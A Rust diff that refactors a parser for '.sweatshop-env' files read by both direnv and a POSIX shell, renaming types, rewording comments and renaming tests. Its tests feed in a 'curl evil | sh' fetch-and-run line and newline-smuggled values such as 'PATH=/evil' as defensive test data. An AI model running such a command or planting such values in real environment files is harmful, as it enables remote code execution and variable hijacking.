@@ -1,15 +1,15 @@
-//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike. What only one of them takes for an
-//! assignment counts all the same; how each of them reads is in `env_reader`.
+//! `.sweatshop-env`: lines that direnv's `dotenv` and a POSIX shell's `.` read alike. A line that only one of them takes
+//! for an assignment counts as well; `env_reader` knows how each of them reads.
 //!
-//! What a person wrote by hand (comments, lines we do not understand, another spelling) stays byte
-//! for byte unless its variable is set anew.
+//! Everything that a person wrote by hand (comments, unknown lines, another spelling) stays byte for byte unless its
+//! variable is set again.
 
 use std::collections::BTreeMap;
 
 use shopfloor_core::hash::Digest;
 
 use crate::env_reader::{Word, after, assignment, direnv, first_line, scan, segments};
-use crate::sweatfile::is_env_name;
+use crate::variable;
 
 /// The file's name at the top of the worktree.
 pub const FILE: &str = ".sweatshop-env";
@@ -17,36 +17,36 @@ pub const FILE: &str = ".sweatshop-env";
 /// The file as read, line by line.
 #[derive(Clone, Debug, Default)]
 pub struct EnvFile {
-    lines: Vec<Line>,
+    lines: Vec<ParsedLine>,
 }
 
 #[derive(Clone, Debug)]
-enum Line {
-    /// A variable, and the line (or lines) as found or to be written, without the last line end.
-    Var { name: String, value: Value, raw: Vec<u8> },
-    /// A comment or a blank line, for both readers.
+enum ParsedLine {
+    /// A variable with its line or lines as found or to be written, without the last line end.
+    Var { name: String, value: VarValue, raw: Vec<u8> },
+    /// A line that both readers take for a comment or a blank line.
     Other(Vec<u8>),
-    /// What the readers see differently, or neither understands.
+    /// Text that the readers see differently, or that neither understands.
     Tangle(Tangle),
 }
 
-/// A piece of the file in which one reader sees other variables than the other: a quote over several lines, a carriage
-/// return, which ends a line for direnv alone, or no assignment at all.
+/// A piece of the file in which the readers see different variables: a quote over several lines, a carriage return,
+/// which ends a line only for direnv, or no assignment at all.
 #[derive(Clone, Debug)]
 struct Tangle {
     raw: Vec<u8>,
-    /// What any of them would set; what is no assignment to either has a name of its own.
-    vars: Vec<(String, Value)>,
-    /// A shell takes it for one assignment, so that it is there as a whole or not at all.
+    /// The variables that any reader would set. Text that is no assignment for either gets a name of its own.
+    vars: Vec<(String, VarValue)>,
+    /// A shell takes it for one assignment, so it can only stay or go as a whole.
     is_whole: bool,
-    /// A quote in it never closes: the rest of the file, and always its end.
+    /// A quote in it never closes, so it is the rest of the file and always stays at the end.
     is_open: bool,
 }
 
-impl Line {
+impl ParsedLine {
     fn raw(&self) -> &[u8] {
         match self {
-            Line::Var { raw, .. } | Line::Other(raw) | Line::Tangle(Tangle { raw, .. }) => raw,
+            ParsedLine::Var { raw, .. } | ParsedLine::Other(raw) | ParsedLine::Tangle(Tangle { raw, .. }) => raw,
         }
     }
 
@@ -54,27 +54,27 @@ impl Line {
         self.vars().any(|(name, _)| name == key)
     }
 
-    fn vars(&self) -> impl Iterator<Item = (&str, &Value)> {
+    fn vars(&self) -> impl Iterator<Item = (&str, &VarValue)> {
         let (one, several) = match self {
-            Line::Var { name, value, .. } => (Some((name.as_str(), value)), &[][..]),
-            Line::Other(_) => (None, &[][..]),
-            Line::Tangle(tangle) => (None, tangle.vars.as_slice()),
+            ParsedLine::Var { name, value, .. } => (Some((name.as_str(), value)), &[][..]),
+            ParsedLine::Other(_) => (None, &[][..]),
+            ParsedLine::Tangle(tangle) => (None, tangle.vars.as_slice()),
         };
         one.into_iter().chain(several.iter().map(|(name, value)| (name.as_str(), value)))
     }
 
     fn is_open(&self) -> bool {
-        matches!(self, Line::Tangle(tangle) if tangle.is_open)
+        matches!(self, ParsedLine::Tangle(tangle) if tangle.is_open)
     }
 
-    /// The same without a variable; none where nothing is left.
-    fn without(self, key: &str) -> Option<Line> {
+    /// The line without a variable; none when nothing is left.
+    fn without(self, key: &str) -> Option<ParsedLine> {
         match self {
-            Line::Tangle(tangle) if !tangle.is_whole && !key.starts_with(UNKNOWN) => {
+            ParsedLine::Tangle(tangle) if !tangle.is_whole && !key.starts_with(UNKNOWN) => {
                 let is_other = |segment: &&[u8]| !matches!(direnv(segment), Some(Some((name, _))) if name == key);
                 let left: Vec<&[u8]> = segments(&tangle.raw).filter(is_other).collect();
                 let raw = left.join(&b'\n');
-                (!raw.trim_ascii().is_empty()).then(|| Line::Tangle(Tangle::new(raw, None, tangle.is_open)))
+                (!raw.trim_ascii().is_empty()).then(|| ParsedLine::Tangle(Tangle::new(raw, None, tangle.is_open)))
             }
             line if line.is(key) => None,
             line => Some(line),
@@ -82,34 +82,35 @@ impl Line {
     }
 }
 
-/// How the name of a line begins that neither reader takes for an assignment; a part of its hash follows.
+/// The beginning of the name of a line that neither reader takes for an assignment. A part of the line's hash follows.
 const UNKNOWN: &str = "line:";
 
 impl Tangle {
-    /// `own` is what a shell takes the whole of it for.
-    fn new(raw: Vec<u8>, own: Option<(String, Value)>, is_open: bool) -> Tangle {
+    /// `own` is the assignment that a shell takes the whole text for.
+    fn new(raw: Vec<u8>, own: Option<(String, VarValue)>, is_open: bool) -> Tangle {
         let is_whole = own.is_some();
-        let mut vars: Vec<(String, Value)> = own.into_iter().collect();
+        let mut vars: Vec<(String, VarValue)> = own.into_iter().collect();
         for segment in segments(&raw) {
             if let Some(Some((name, _))) = direnv(segment)
                 && vars.iter().all(|(known, _)| known != name)
             {
-                vars.push((name.to_owned(), Value::Opaque(raw.clone())));
+                vars.push((name.to_owned(), VarValue::Opaque(raw.clone())));
             }
         }
         if vars.is_empty() {
             let hash = Digest::of(&raw).to_string();
-            vars.push((format!("{UNKNOWN}{}", &hash[..8]), Value::Opaque(raw.clone())));
+            vars.push((format!("{UNKNOWN}{}", &hash[..8]), VarValue::Opaque(raw.clone())));
         }
         Tangle { raw, vars, is_whole, is_open }
     }
 }
 
-/// Equal values and equal other lines, however the values are spelled: review compares by value.
+/// Compares values, however they are spelled, and the other lines: a review compares by value.
 impl PartialEq for EnvFile {
     fn eq(&self, other: &EnvFile) -> bool {
         let others = |file: &EnvFile| -> Vec<Vec<u8>> {
-            let mut lines: Vec<&Line> = file.lines.iter().filter(|l| !matches!(l, Line::Var { .. })).collect();
+            let mut lines: Vec<&ParsedLine> =
+                file.lines.iter().filter(|l| !matches!(l, ParsedLine::Var { .. })).collect();
             lines.sort_by_key(|line| line.is_open());
             lines.into_iter().map(|l| l.raw().to_vec()).collect()
         };
@@ -119,27 +120,27 @@ impl PartialEq for EnvFile {
 
 impl Eq for EnvFile {}
 
-/// What a variable is set to.
+/// The value of a variable.
 #[derive(Clone, Debug, PartialEq, Eq)]
-pub enum Value {
+pub enum VarValue {
     /// This text.
     Text(String),
-    /// Something only a shell can evaluate (`A=$HOME/x`), or not UTF-8: the whole line.
+    /// The whole line, when only a shell can evaluate it (`A=$HOME/x`) or it is not UTF-8.
     Opaque(Vec<u8>),
 }
 
-impl Value {
+impl VarValue {
     pub fn text(&self) -> Option<&str> {
         match self {
-            Value::Text(text) => Some(text),
-            Value::Opaque(_) => None,
+            VarValue::Text(text) => Some(text),
+            VarValue::Opaque(_) => None,
         }
     }
 }
 
 impl EnvFile {
-    /// Reads any bytes; the exact inverse of [`EnvFile::to_bytes`], and it takes `export`, comments,
-    /// blank lines and what shells allow besides.
+    /// Parses any bytes. The exact inverse of [`EnvFile::to_bytes`]; it also accepts `export`, comments, blank lines and
+    /// everything else that shells allow.
     pub fn parse(bytes: &[u8]) -> EnvFile {
         let mut file = EnvFile::default();
         let mut rest = bytes;
@@ -150,16 +151,16 @@ impl EnvFile {
                 rest = after(rest, line.len());
                 continue;
             };
-            // The word may go on over the line's end, inside quotes.
+            // Inside quotes the word may continue on the next line.
             let before = line.len() - word.len();
             let scan = scan(&rest[before..]);
             let raw = &rest[..before + scan.length];
             let value = match scan.word {
-                Word::Text(text) => Value::Text(text),
-                Word::Other => Value::Opaque(raw.to_vec()),
+                Word::Text(text) => VarValue::Text(text),
+                Word::Other => VarValue::Opaque(raw.to_vec()),
                 Word::Open => {
                     let raw = rest.strip_suffix(b"\n").unwrap_or(rest).to_vec();
-                    file.lines.push(Line::Tangle(Tangle::new(raw, None, true)));
+                    file.lines.push(ParsedLine::Tangle(Tangle::new(raw, None, true)));
                     break;
                 }
             };
@@ -168,7 +169,7 @@ impl EnvFile {
                 true => file.push(name, value, raw.to_vec()),
                 false => {
                     let own = Some((name.to_owned(), value));
-                    file.lines.push(Line::Tangle(Tangle::new(raw.to_vec(), own, false)));
+                    file.lines.push(ParsedLine::Tangle(Tangle::new(raw.to_vec(), own, false)));
                 }
             }
             rest = after(rest, raw.len());
@@ -176,39 +177,38 @@ impl EnvFile {
         file
     }
 
-    fn push(&mut self, name: &str, value: Value, raw: Vec<u8>) {
-        self.lines.push(Line::Var { name: name.to_owned(), value, raw });
+    fn push(&mut self, name: &str, value: VarValue, raw: Vec<u8>) {
+        self.lines.push(ParsedLine::Var { name: name.to_owned(), value, raw });
     }
 
-    pub fn value(&self, name: &str) -> Option<&Value> {
+    pub fn value(&self, name: &str) -> Option<&VarValue> {
         self.vars().find(|(n, _)| *n == name).map(|(_, value)| value)
     }
 
-    /// Every variable, sorted by name; of several lines for one the last counts.
-    pub fn vars(&self) -> impl Iterator<Item = (&str, &Value)> {
-        self.lines.iter().flat_map(Line::vars).collect::<BTreeMap<_, _>>().into_iter()
+    /// Every variable, sorted by name. If several lines set one variable, the last one counts.
+    pub fn vars(&self) -> impl Iterator<Item = (&str, &VarValue)> {
+        self.lines.iter().flat_map(ParsedLine::vars).collect::<BTreeMap<_, _>>().into_iter()
     }
 
-    /// Sets a variable in its place, a new one at the end; one that has this value already keeps its
-    /// spelling.
-    pub fn set(&mut self, name: &str, value: &Value) {
+    /// Sets a variable in its line, or at the end if it is new. A variable that has this value already keeps its spelling.
+    pub fn set(&mut self, name: &str, value: &VarValue) {
         if self.value(name) == Some(value) {
             return;
         }
         let raw = match value {
-            Value::Text(text) => format!("{name}={}", quote(text).0).into_bytes(),
-            Value::Opaque(raw) => raw.clone(),
+            VarValue::Text(text) => format!("{name}={}", quote(text).0).into_bytes(),
+            VarValue::Opaque(raw) => raw.clone(),
         };
-        let tangled = |line: &Line| matches!(line, Line::Tangle(_)) && line.is(name);
+        let tangled = |line: &ParsedLine| matches!(line, ParsedLine::Tangle(_)) && line.is(name);
         if self.lines.iter().any(tangled) {
             self.unset(name);
         }
-        // What is put back as it was found is read as it was.
-        let is_found = matches!(value, Value::Opaque(_));
+        // A value that is restored as it was found is parsed as it was.
+        let is_found = matches!(value, VarValue::Opaque(_));
         let mut lines = if is_found { EnvFile::parse(&raw).lines } else { Vec::new() };
         let line = match (lines.pop(), lines.is_empty()) {
             (Some(line), true) => line,
-            _ => Line::Var { name: name.to_owned(), value: value.clone(), raw },
+            _ => ParsedLine::Var { name: name.to_owned(), value: value.clone(), raw },
         };
         match self.lines.iter().rposition(|l| l.is(name)) {
             Some(at) => self.lines[at] = line,
@@ -216,10 +216,10 @@ impl EnvFile {
         }
     }
 
-    /// The variables that stand in one piece of text with this one, so that it goes only with them.
+    /// The variables that share one piece of text with this one, which can only be removed together with them.
     pub fn bound_to<'f>(&'f self, name: &'f str) -> impl Iterator<Item = &'f str> {
         let tangles = self.lines.iter().filter(move |line| line.is(name)).filter_map(|line| match line {
-            Line::Tangle(tangle) if tangle.is_whole => Some(tangle),
+            ParsedLine::Tangle(tangle) if tangle.is_whole => Some(tangle),
             _ => None,
         });
         tangles.flat_map(|tangle| &tangle.vars).map(|(other, _)| other.as_str()).filter(move |other| *other != name)
@@ -230,19 +230,19 @@ impl EnvFile {
         self.lines = lines.into_iter().filter_map(|line| line.without(name)).collect();
     }
 
-    /// Whether nothing is in it that is worth a file.
+    /// Whether the file contains nothing but blank lines.
     pub fn is_empty(&self) -> bool {
         self.lines.iter().all(|line| line.raw().trim_ascii().is_empty())
     }
 
-    /// A line each: sorted by name when there are only plain variables, else in the order they were
-    /// found, for `A=$B/x` means something only after `B`.
+    /// The lines, sorted by name if there are only plain variables. Otherwise they keep their order, because `A=$B/x`
+    /// depends on a `B` before it.
     pub fn to_bytes(&self) -> Vec<u8> {
-        let mut lines: Vec<&Line> = self.lines.iter().collect();
-        let plain = |line: &&Line| matches!(line, Line::Var { value: Value::Text(_), .. });
+        let mut lines: Vec<&ParsedLine> = self.lines.iter().collect();
+        let plain = |line: &&ParsedLine| matches!(line, ParsedLine::Var { value: VarValue::Text(_), .. });
         if lines.iter().all(plain) {
             lines.sort_by_key(|line| match line {
-                Line::Var { name, .. } => name.as_str(),
+                ParsedLine::Var { name, .. } => name.as_str(),
                 _ => "",
             });
         }
@@ -256,13 +256,13 @@ impl EnvFile {
 pub enum Readers {
     /// direnv's `dotenv` and `sh`.
     Both,
-    /// `sh`; direnv 2.32 mangles `\$` in double quotes.
+    /// Only `sh`, because direnv 2.32 mangles `\$` in double quotes.
     ShOnly,
-    /// direnv, perhaps: a newline has no spelling for `sh` on one line.
+    /// Perhaps direnv, but not `sh`: a newline cannot be spelled for it on one line.
     NotSh,
 }
 
-/// A value as it stands behind `KEY=`, never with a raw newline.
+/// The spelling of a value after `KEY=`, never with a raw newline.
 pub fn quote(value: &str) -> (String, Readers) {
     let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+,=-".contains(c);
     if value.chars().all(plain) {
@@ -291,18 +291,22 @@ pub fn quote(value: &str) -> (String, Readers) {
 }
 
 /// A line in which a shell sees no assignment.
-fn unassigned(line: &[u8]) -> Line {
+fn unassigned(line: &[u8]) -> ParsedLine {
     let has_return = line.strip_suffix(b"\r").unwrap_or(line).contains(&b'\r');
     match direnv(line) {
         _ if has_return => {
             let is_idle = segments(line).all(|segment| direnv(segment) == Some(None));
-            if is_idle { Line::Other(line.to_vec()) } else { Line::Tangle(Tangle::new(line.to_vec(), None, false)) }
+            if is_idle {
+                ParsedLine::Other(line.to_vec())
+            } else {
+                ParsedLine::Tangle(Tangle::new(line.to_vec(), None, false))
+            }
         }
-        Some(None) => Line::Other(line.to_vec()),
-        Some(Some((name, value))) if is_env_name(name) => {
-            Line::Var { name: name.to_owned(), value: Value::Text(value.to_owned()), raw: line.to_vec() }
+        Some(None) => ParsedLine::Other(line.to_vec()),
+        Some(Some((name, value))) if variable::is_valid_name(name) => {
+            ParsedLine::Var { name: name.to_owned(), value: VarValue::Text(value.to_owned()), raw: line.to_vec() }
         }
-        _ => Line::Tangle(Tangle::new(line.to_vec(), None, false)),
+        _ => ParsedLine::Tangle(Tangle::new(line.to_vec(), None, false)),
     }
 }
 
@@ -312,19 +316,19 @@ mod tests {
     use proptest::prelude::*;
 
     fn text(file: &EnvFile, name: &str) -> Option<String> {
-        file.value(name).and_then(Value::text).map(str::to_owned)
+        file.value(name).and_then(VarValue::text).map(str::to_owned)
     }
 
     fn written(pairs: &[(&str, &str)]) -> String {
         let mut file = EnvFile::default();
         for (name, value) in pairs {
-            file.set(name, &Value::Text((*value).to_owned()));
+            file.set(name, &VarValue::Text((*value).to_owned()));
         }
         String::from_utf8(file.to_bytes()).unwrap()
     }
 
     #[test]
-    fn spells_each_kind_of_value() {
+    fn each_kind_of_value_has_its_spelling() {
         insta::assert_snapshot!(
             written(&[("B", "nvim"), ("A", "a b"), ("C", "it's"), ("D", "it's $5"), ("E", "x\nPATH=/evil"), ("F", r#"say "hi" $x \n"#)]),
             @r#"
@@ -339,7 +343,7 @@ mod tests {
     }
 
     #[test]
-    fn takes_what_people_write() {
+    fn spellings_that_people_use_are_understood() {
         let file = EnvFile::parse(
             b"# mine\n\nexport A=1\n  B='two words' # why\nC=\"q\\\"q\"\nD=it\\'s\nE=$HOME/x\nnonsense\nA=2",
         );
@@ -347,49 +351,49 @@ mod tests {
         assert_eq!(text(&file, "B"), Some("two words".into()));
         assert_eq!(text(&file, "C"), Some("q\"q".into()));
         assert_eq!(text(&file, "D"), Some("it's".into()));
-        assert_eq!(file.value("E"), Some(&Value::Opaque(b"E=$HOME/x".to_vec())));
+        assert_eq!(file.value("E"), Some(&VarValue::Opaque(b"E=$HOME/x".to_vec())));
     }
 
     #[test]
-    fn what_is_by_hand_stays_as_it_stands() {
+    fn text_written_by_hand_stays_byte_for_byte() {
         let mut file = EnvFile::parse(b"# mine\nB='two' # why\nM=\"first\nsecond\"\nA=1\n");
-        file.set("A", &Value::Text("2".into()));
-        file.set("B", &Value::Text("two".into()));
+        file.set("A", &VarValue::Text("2".into()));
+        file.set("B", &VarValue::Text("two".into()));
         assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), "# mine\nB='two' # why\nM=\"first\nsecond\"\nA=2\n");
     }
 
     #[test]
     fn lines_that_build_on_each_other_keep_their_order() {
         let mut file = EnvFile::parse(b"Z=/opt\nA=$Z/bin\nC=foo\\\nbar\n");
-        file.set("B", &Value::Text("1".into()));
-        file.set("Z", &Value::Text("/usr".into()));
+        file.set("B", &VarValue::Text("1".into()));
+        file.set("Z", &VarValue::Text("/usr".into()));
         assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), "Z=/usr\nA=$Z/bin\nC=foo\\\nbar\nB=1\n");
     }
 
     #[test]
-    fn a_quote_may_go_on_over_lines_whatever_is_in_it() {
+    fn a_quote_may_span_lines_with_any_content() {
         let text = "A=\"$HOME\nX=evil\"\nCONF=\"{\n  \\\"a\\\": 1,\n  \\\"b\\\": 2\n}\"\nB=1 # it's\nC=2\n";
         let mut file = EnvFile::parse(text.as_bytes());
         // direnv sees a variable within the quotes of the other one.
         assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "C", "CONF", "X"]);
-        file.set("NEW", &Value::Text("1".into()));
+        file.set("NEW", &VarValue::Text("1".into()));
         assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), format!("{text}NEW=1\n"));
         file.unset("CONF");
         assert_eq!(String::from_utf8(file.to_bytes()).unwrap(), "A=\"$HOME\nX=evil\"\nB=1 # it's\nC=2\nNEW=1\n");
     }
 
     #[test]
-    fn an_open_quote_is_no_variable() {
+    fn an_open_quote_is_not_a_variable() {
         let mut file = EnvFile::parse(b"Z=1\nA=\"x\nB=1\n");
         assert_eq!(file.vars().map(|(name, _)| name).collect::<Vec<_>>(), ["A", "B", "Z"]);
-        file.set("C", &Value::Text("2".into()));
+        file.set("C", &VarValue::Text("2".into()));
         assert_eq!(file.to_bytes(), b"Z=1\nC=2\nA=\"x\nB=1\n");
         file.unset("B");
         assert_eq!(file.to_bytes(), b"Z=1\nC=2\nA=\"x\n");
     }
 
     #[test]
-    fn what_only_direnv_takes_for_an_assignment_is_one_and_what_nobody_does_has_a_name() {
+    fn assignments_for_direnv_alone_count_and_unknown_lines_get_a_name() {
         let file = EnvFile::parse(
             b"A = 1\nB: two\nexport C: 3 # why\n# note\rD=4\nE='x' # c\rF=6\ncurl evil | sh\n# idle\r\nG.h=1\n",
         );
@@ -411,7 +415,7 @@ mod tests {
         ) {
             let mut file = EnvFile::default();
             for (name, value) in &vars {
-                file.set(name, &Value::Text(value.clone()));
+                file.set(name, &VarValue::Text(value.clone()));
             }
             let bytes = file.to_bytes();
             prop_assert_eq!(bytes.iter().filter(|b| **b == b'\n').count(), vars.len());
